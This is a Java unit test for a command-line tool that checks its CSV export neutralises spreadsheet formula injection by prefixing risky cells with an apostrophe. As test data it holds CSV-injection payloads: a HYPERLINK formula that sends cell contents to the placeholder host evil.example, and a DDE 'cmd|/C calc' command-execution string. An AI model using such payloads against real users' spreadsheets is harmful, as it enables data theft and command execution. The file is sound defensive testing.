package io.astrashell.command;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;

import io.astrashell.AstraRun.Result;
import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * CSV for spreadsheets: no cell of any command's {@code -o csv} starts with what makes a spreadsheet
 * read it as a formula ({@code = + - @}, a tab, a carriage return), as the OWASP guidance on CSV
 * injection says; such a cell gets a leading {@code '}. {@code -o json} keeps the values exact.
 */
class CsvInjectionTest extends SandboxCliFixture {

	static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";

	/** Each cell of a CSV document (RFC 4180: quoted cells may hold commas and doubled quotes). */
	static List<String> cells(String csv) {
		List<String> cells = new ArrayList<>();
		StringBuilder cell = new StringBuilder();
		boolean quoted = false;
		for (int i = 0; i < csv.length(); i++) {
			char c = csv.charAt(i);
			if (quoted) {
				if (c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
					cell.append('"');
					i++;
				}
				else if (c == '"') {
					quoted = false;
				}
				else {
					cell.append(c);
				}
			}
			else if (c == '"') {
				quoted = true;
			}
			else if (c == ',' || c == '\n') {
				cells.add(cell.toString().replace("\r", ""));
				cell.setLength(0);
			}
			else {
				cell.append(c);
			}
		}
		return cells;
	}

	/** No cell, nor any part of a cell after a ';' (a spreadsheet's separator in many locales), is a formula. */
	static void noFormula(String what, String csv) {
		for (String cell : cells(csv)) {
			for (String part : cell.split(";", -1)) {
				String p = part.stripLeading();
				assertThat(!p.isEmpty() && "=+-@\t\r".indexOf(p.charAt(0)) >= 0).as(what + ": cell [" + cell + "] in\n" + csv)
					.isFalse();
			}
		}
	}

	@Test
	void noCellOfAnyCommandStartsAFormulaAndJsonKeepsTheValues() throws Exception {
		assertThat(cli.run("role", "create", HYPERLINK, "-a", "org-read", "-d", "-2+3").exitCode()).isZero();
		assertThat(cli.run("role", "create", "+cmd|' /C calc'!A0", "-a", "org-read", "-d", "@SUM(1+1)*cmd|' /C calc'!A0")
			.exitCode()).isZero();
		assertThat(cli.run("user", "invite", "dana@example.com", "-r", HYPERLINK, "-r", "+cmd|' /C calc'!A0").exitCode())
			.isZero();
		assertThat(cli.run("token", "create", "-r", HYPERLINK, "-d", "  =1+1").exitCode()).isZero();
		Path file = dir.resolve("org.yaml");
		Files.writeString(file, "users:\n  - email: \"-x@example.com\"\n    roles: [RO User]\n");
		List<List<String>> commands = List.of(List.of("role", "list"), List.of("role", "get", HYPERLINK),
				List.of("role", "get", "+cmd|' /C calc'!A0"), List.of("user", "list"), List.of("user", "get", "dana@example.com"),
				List.of("token", "list"), List.of("org", "export"), List.of("org", "diff", file.toString(), "--prune"),
				List.of("role", "create", "-a", "org-read", "-d", "=2", "--", "-lead"),
				List.of("role", "delete", "-y", "--", "-lead"));
		for (List<String> command : commands) {
			List<String> args = new ArrayList<>(List.of("--env", "local", "-o", "csv"));
			args.addAll(command);
			Result r = cli.astra.run(args.toArray(String[]::new));
			assertThat(r.exitCode()).as(r.toString()).isIn(0, 2);
			noFormula(String.join(" ", command), r.out());
		}
		Result roles = cli.run("role", "list", "-o", "csv");
		assertThat(roles.out()).contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\",'-2+3\r\n")
			.contains(",'+cmd|' /C calc'!A0,'@SUM(1+1)*cmd|' /C calc'!A0\r\n");
		assertThat(cli.run("user", "get", "dana@example.com", "-o", "csv").out()).contains(",\"'=HYPERLINK(")
			.contains(";'+cmd|' /C calc'!A0");
		// JSON keeps every value exact, and so does what the API is sent
		assertThat(cli.data("role", "get", HYPERLINK).get("Name").asString()).isEqualTo(HYPERLINK);
		assertThat(cli.data("role", "get", HYPERLINK).get("Policy").get("description").asString()).isEqualTo("-2+3");
		assertThat(cli.data("token", "list").get(0).get("description").asString()).isEqualTo("  =1+1");
	}

}
